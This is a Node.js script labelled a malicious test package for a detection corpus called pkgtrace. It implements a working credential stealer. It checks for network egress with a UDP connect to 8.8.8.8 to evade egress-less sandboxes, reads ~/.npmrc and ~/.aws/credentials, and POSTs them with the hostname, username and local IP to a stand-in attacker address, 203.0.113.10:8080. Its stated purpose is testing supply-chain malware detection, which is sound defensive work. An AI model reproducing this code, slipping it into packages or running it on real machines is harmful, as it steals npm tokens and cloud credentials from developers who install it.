'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// The "what is my IP" trick: a UDP connect() to 8.8.8.8:53 sends nothing,
// but socket.address() then names the local address the route out uses.
// Only if that worked (malware skips sandboxes with no way out) it reads
// ~/.npmrc and ~/.aws/credentials and POSTs them as JSON over plain HTTP to
// a bare IP, http://203.0.113.10:8080/c. Prints `net-ip-first: step N ...`
// at each step reached; exits 0 whatever fails, after 5 s at the latest.
const dgram = require('dgram');
const fs = require('fs');
const http = require('http');
const os = require('os');
const path = require('path');

const say = (msg) => console.log(`net-ip-first: ${msg}`);
const errText = (e) => (e && (e.code || e.message)) || String(e);
setTimeout(() => { say('gave up after 5 s'); process.exit(0); }, 5000).unref();
process.on('uncaughtException', (e) => { say(`error ${errText(e)}`); process.exit(0); });

function read(rel) {
  try { return fs.readFileSync(path.join(os.homedir(), rel), 'utf8'); } catch (e) { return ''; }
}

function userName() {
  try { return os.userInfo().username; } catch (e) { return process.env.USER || ''; }
}

// Step 1: connect a UDP socket to a public resolver and ask which local
// address it got. `cb(err, address)` is called once.
function ownAddress(cb) {
  let called = false;
  const once = (err, address) => { if (!called) { called = true; try { s.close(); } catch (e) { /* closed */ } cb(err, address); } };
  const s = dgram.createSocket('udp4');
  s.on('error', (e) => once(e));
  s.connect(53, '8.8.8.8', (err) => {
    if (err) return once(err);
    try { once(null, s.address().address); } catch (e) { once(e); }
  });
}

ownAddress((err, address) => {
  if (err || !address || address === '0.0.0.0') {
    say(`step 1 failed: ${err ? errText(err) : `no address (${address})`}; stopping`);
    process.exit(0);
  }
  say(`step 1 own address is ${address}`);

  const npmrc = read('.npmrc');
  const aws = read('.aws/credentials');
  say(`step 2 read ~/.npmrc (${npmrc.length} bytes) and ~/.aws/credentials (${aws.length} bytes)`);

  const body = JSON.stringify({ ip: address, host: os.hostname(), user: userName(), npmrc, aws });
  const req = http.request({
    host: '203.0.113.10', port: 8080, path: '/c', method: 'POST', timeout: 2500,
    headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
  }, (res) => {
    say(`step 3 posted to http://203.0.113.10:8080/c, status ${res.statusCode}`);
    res.resume();
    res.on('end', () => process.exit(0));
    res.on('error', () => process.exit(0));
  });
  req.on('error', (e) => { say(`step 3 post failed: ${errText(e)}`); process.exit(0); });
  req.on('timeout', () => req.destroy(new Error('timeout')));
  req.end(body);
});
